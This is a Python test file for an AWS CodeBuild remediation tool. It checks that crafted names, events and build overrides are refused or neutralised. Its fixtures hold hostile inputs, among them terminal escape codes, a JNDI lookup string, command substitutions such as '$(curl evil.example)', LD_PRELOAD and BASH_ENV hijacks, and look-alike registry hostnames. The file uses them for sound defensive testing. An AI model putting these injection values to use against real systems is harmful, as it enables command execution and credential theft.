"""What strangers can write into names, images, logs and events comes out harmless, bounded, and as nothing else."""

from __future__ import annotations

import json
from typing import Any

import pytest

from remediator.core.codebuild.failure import BuildArn, BuildFailure
from remediator.core.codebuild.image import ImageReference
from remediator.core.codebuild.start import Start, Starter
from remediator.core.guards.review import objection
from remediator.core.outcome import BadInput, Ending, Outcome
from remediator.core.policies.secret_policy import SecretPolicyFault, with_role
from remediator.core.repair.sign_in import takes_registry_credential
from tests.unit import given

CRAFTED = {
    "line breaks": "a\nb\r\nc\u2028d\x0be",
    "terminal codes": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2J",
    "format strings": "%s %n {0.__class__} ${jndi:ldap://x} $(id) `id`",
    "a megabyte": "x" * 1_000_000,
    "invisible": "a\u200bb\u202ec\ufeffd",
    "half a pair": "\ud800",
}

LOOK_ALIKES = (
    "docker.io.evil.example/library/python",
    "docker.io:443/library/python",
    "docker.io.:5000/python",
    "dосker.io/library/python",  # two Cyrillic letters
    "ｄｏｃｋｅｒ.io/library/python",
    "evil.example/docker.io/library/python",
    "registry-1.docker.io.evil.example/library/python",
    "user@docker.io/library/python",
    "https://docker.io/library/python",
    "DOCKER.IO/Library/python",
    "docker.io/library/python@evil",
    "docker.io\\@evil.example/python",
    "docker.io/../evil/python",
    "localhost/python",
    "python\n",
)


@pytest.mark.parametrize("image", LOOK_ALIKES)
def test_an_image_that_looks_like_docker_hubs_gets_no_credential(image: str) -> None:
    assert not takes_registry_credential(given.environment(image=image))


def test_docker_hubs_own_spellings_do() -> None:
    for image in ("python", "docker.io/library/python:3", "index.docker.io/acme/tool"):
        assert takes_registry_credential(given.environment(image=image)), image
        assert ImageReference.parse(image).is_docker_hub


@pytest.mark.parametrize("kind", CRAFTED)
def test_an_outcome_is_lines_that_no_terminal_obeys_and_bounded_whatever_it_quotes(kind: str) -> None:
    text = CRAFTED[kind]
    outcome = Outcome(Ending.ADVISED, f"the image {text}", changes=(text,), advice=(f"paste\n\n{text}",) * 5)
    told = outcome.to_json()
    for line in (told["reason"], *told["changes"]):
        assert line.isprintable()
        assert len(line) <= 2_000
    for advice in told["advice"]:
        assert all(line.isprintable() for line in advice.split("\n"))
    assert len(json.dumps(told)) < 256_000
    assert Outcome.from_json(told).to_json() == told


@pytest.mark.parametrize("kind", CRAFTED)
def test_a_crafted_name_in_an_event_is_refused_and_shown_short(kind: str) -> None:
    text = CRAFTED[kind]
    event = given.event()
    event["detail"]["build-id"] = f"arn:aws:codebuild:eu-west-1:123456789012:build/{text}:1"
    with pytest.raises(BadInput) as refused:
        BuildFailure.from_event(event)
    told = json.dumps(refused.value.to_json())
    assert len(told) < 1_500
    assert "\\u001b" not in told.replace("\\\\", "")
    assert str(refused.value).isprintable()


@pytest.mark.parametrize(
    "arn",
    [
        "arn:aws:codebuild:eu-west-1:123456789012:build/orders/../x:1",
        "arn:aws:codebuild:eu-west-1:123456789012:project/orders",
        "arn:aws:codebuild:eu-west-1:123456789012:build/orders:1\n",
        "arn:aws:codebuild:eu-west-1:*:build/orders:1",
        ["arn:aws:codebuild:eu-west-1:123456789012:build/orders:1"],
        {"arn": 1},
        None,
    ],
)
def test_what_is_no_arn_of_a_build_is_refused(arn: Any) -> None:
    with pytest.raises(BadInput):
        BuildArn.parse(arn)


VARIABLES: dict[str, dict[str, Any]] = {
    "the shell's path": {"name": "PATH", "value": "/evil", "type": "PLAINTEXT"},
    "what bash reads first": {"name": "BASH_ENV", "value": "/evil/x", "type": "PLAINTEXT"},
    "the loader": {"name": "LD_PRELOAD", "value": "/evil/x.so", "type": "PLAINTEXT"},
    "another docker configuration": {"name": "DOCKER_AUTH_CONFIG", "value": "{}", "type": "PLAINTEXT"},
    "the words": {"name": "NOTE", "value": "toomanyrequests: You have reached", "type": "PLAINTEXT"},
    "a command": {"name": "TAG", "value": "$(curl evil.example)", "type": "PLAINTEXT"},
    "a tool's own name": {"name": "TF_CLI_ARGS", "value": "-chdir=/evil", "type": "PLAINTEXT"},
    "a list of words": {"name": "PARTS", "value": "too many", "type": "PLAINTEXT"},
    "a stage": {"name": "STAGE", "value": "live", "type": "PLAINTEXT"},
    "docker's builder": {"name": "DOCKER_BUILDKIT", "value": "1"},
    "no value": {"name": "DEBUG"},
    "a reference": {"name": "NPM_TOKEN", "value": "secret:key", "type": "SECRETS_MANAGER"},
    "a parameter": {"name": "NOTE", "value": "/mine", "type": "PARAMETER_STORE"},
    "a name of CodeBuild's": {"name": "CODEBUILD_SRC_DIR", "value": "/evil", "type": "PLAINTEXT"},
}


def told_of(variable: dict[str, Any], own: dict[str, Any] | None = None, by: Starter = Starter.ANYBODY) -> str:
    build = given.throttled_command(env={"environmentVariables": [variable]})
    snapshot = given.of_commands(env={"environmentVariables": [own] if own else []})
    found = objection(given.reading(build, snapshot, start=Start("", by)), given.SIGN_IN, "advise", 0.0)
    return found.reason if found else ""


@pytest.mark.parametrize("case", VARIABLES)
def test_a_log_is_no_evidence_where_whoever_started_the_build_set_a_variable(case: str) -> None:
    variable = VARIABLES[case]
    assert f"with another {variable['name']}" in told_of(variable)
    for other in ({"value": "own"}, {"name": "OTHER"}, {"type": "PLAINTEXT", "value": "own"}):
        assert f"with another {variable['name']}" in told_of(variable, {**variable, **other})


def test_a_reference_in_place_of_the_same_text_is_another_variable() -> None:
    plain = {"name": "NOTE", "value": "/mine", "type": "PLAINTEXT"}
    assert "with another NOTE" in told_of({**plain, "type": "PARAMETER_STORE"}, plain)


@pytest.mark.parametrize("case", VARIABLES)
def test_a_variable_that_the_project_itself_has_is_no_objection(case: str) -> None:
    assert told_of(VARIABLES[case], VARIABLES[case]) == ""
    assert told_of(VARIABLES[case], {"type": "PLAINTEXT", "value": "", **VARIABLES[case]}) == ""


@pytest.mark.parametrize("case", VARIABLES)
def test_a_variable_of_a_pipelines_action_or_of_a_webhooks_batch_is_no_objection(case: str) -> None:
    assert told_of(VARIABLES[case], by=Starter.PIPELINE) == ""
    assert told_of(VARIABLES[case], by=Starter.WEBHOOK) == ""


@pytest.mark.parametrize("case", VARIABLES)
def test_an_image_that_codebuild_could_not_pull_is_evidence_whatever_the_start_set(case: str) -> None:
    build = given.build(env={"environmentVariables": [VARIABLES[case]]}, sourceVersion="pr/7")
    assert objection(given.reading(build, given.snapshot()), given.SIGN_IN, "advise", 0.0) is None


@pytest.mark.parametrize(
    "role", ["*", "arn:aws:iam::123456789012:role/*", "arn:aws:iam::123456789012:root", 'x"},{"', ""]
)
def test_nothing_but_one_role_comes_into_the_secrets_policy(role: str) -> None:
    with pytest.raises(SecretPolicyFault):
        with_role(None, role)


EVIL = "https://github.com/evil/x.git"
MORE: dict[str, dict[str, Any]] = {
    "cache": {"cache": {"type": "S3", "location": "evil/cache"}},
    "environment.certificate": {"env": {"certificate": "evil/ca.pem"}},
    "secondarySources": {"secondarySources": [{"sourceIdentifier": "x", "type": "GITHUB", "location": EVIL}]},
    "secondarySourceVersions": {"secondarySourceVersions": [{"sourceIdentifier": "x", "sourceVersion": "pr/7"}]},
    "logsConfig": {"logs": {"groupName": "evil", "streamName": "x"}},
    "debugSession": {"debugSession": {"sessionEnabled": True, "sessionTarget": "x"}},
    "environment.fleet": {"env": {"fleet": {"fleetArn": "arn:aws:codebuild:eu-west-1:1:fleet/evil:1"}}},
    "environment.memberOfNextYear": {"env": {"memberOfNextYear": "evil"}},
}
SAYS_NO_MORE: dict[str, dict[str, Any]] = {
    "a larger machine": {"env": {"computeType": "BUILD_GENERAL1_LARGE"}},
    "no privileges": {"env": {"privilegedMode": False}},
    "less time": {"timeoutInMinutes": 5, "queuedTimeoutInMinutes": 5},
    "a debug session that is off": {"debugSession": {"sessionEnabled": False}},
}


@pytest.mark.parametrize("member", MORE)
def test_commands_that_were_given_other_files_or_another_log_are_no_ground_for_a_repair(member: str) -> None:
    reading = given.reading(given.throttled_command(**MORE[member]), given.of_commands())
    found = objection(reading, given.SIGN_IN, "repair", 0.0)
    assert found is not None
    assert f"with another {member}" in found.reason


@pytest.mark.parametrize("case", SAYS_NO_MORE)
def test_overrides_that_bring_nobodys_commands_or_files_are_no_objection(case: str) -> None:
    reading = given.reading(given.throttled_command(**SAYS_NO_MORE[case]), given.of_commands())
    assert objection(reading, given.SIGN_IN, "repair", 0.0) is None


BATCH = f"arn:aws:codebuild:{given.REGION}:{given.ACCOUNT}:build-batch/{given.PROJECT}:6b0e"


@pytest.mark.parametrize("batch", [{}, {"buildBatchArn": BATCH}])
@pytest.mark.parametrize("version", ["pr/7", "refs/pull/7/head^{" + given.COMMIT + "}", "main", given.COMMIT, "pr/7\n"])
def test_commands_of_a_version_that_somebody_named_are_no_ground_for_a_repair_or_a_wait(
    version: str, batch: dict[str, Any]
) -> None:
    build = given.throttled_command(sourceVersion=version, **batch)
    reading = given.reading(build, given.of_commands())
    found = objection(reading, given.SIGN_IN, "repair", 0.0)
    assert found is not None
    assert "nothing shows that a webhook or a pipeline of the project did that" in found.reason
    refusal = given.case(build, given.of_commands(), given.throttled(given.ABUSED)).refusal
    assert refusal is not None
    assert found.reason in refusal.reason


@pytest.mark.parametrize("version", [None, "refs/heads/main", "refs/tags/v1"])
def test_commands_of_the_projects_branches_are(version: str | None) -> None:
    reading = given.reading(given.throttled_command(sourceVersion=version), given.of_commands())
    assert objection(reading, given.SIGN_IN, "repair", 0.0) is None


@pytest.mark.parametrize("by", [Starter.WEBHOOK, Starter.PIPELINE])
def test_commands_that_a_webhook_or_a_pipeline_of_the_project_built_are(by: Starter) -> None:
    build = given.throttled_command(sourceVersion="pr/7")
    reading = given.reading(build, given.of_commands(), start=Start("pr/7", by))
    assert objection(reading, given.SIGN_IN, "repair", 0.0) is None
